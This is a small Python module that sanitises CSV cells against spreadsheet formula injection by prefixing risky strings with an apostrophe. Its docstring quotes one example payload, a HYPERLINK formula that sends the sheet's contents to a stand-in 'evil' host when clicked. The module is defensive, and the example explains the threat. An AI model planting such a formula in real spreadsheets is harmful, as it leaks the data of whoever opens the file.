"""CSV cells that a spreadsheet opens as data, never as a formula (pure: no Django, no I/O).

Excel, LibreOffice and Google Sheets run a cell that starts with ``=``, ``+``, ``-`` or ``@`` (or
a tab or carriage return before one) as a formula: a model or candidate name such as
``=HYPERLINK("http://evil/?"&A1, "details")`` in a downloaded report would send the sheet's
contents away when clicked. Such a string gets a leading apostrophe, which spreadsheets take as
"text" and do not show; numbers, and every other string, are written as they are.
"""

from __future__ import annotations

from collections.abc import Iterable
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")  # and full-width =+-@


def spreadsheet_cell(value: Any) -> Any:
    """``value`` as a CSV cell that no spreadsheet runs as a formula."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def spreadsheet_row(values: Iterable[Any]) -> list[Any]:
    """``spreadsheet_cell`` of each value: a row for ``csv.writer.writerow``."""
    return [spreadsheet_cell(value) for value in values]
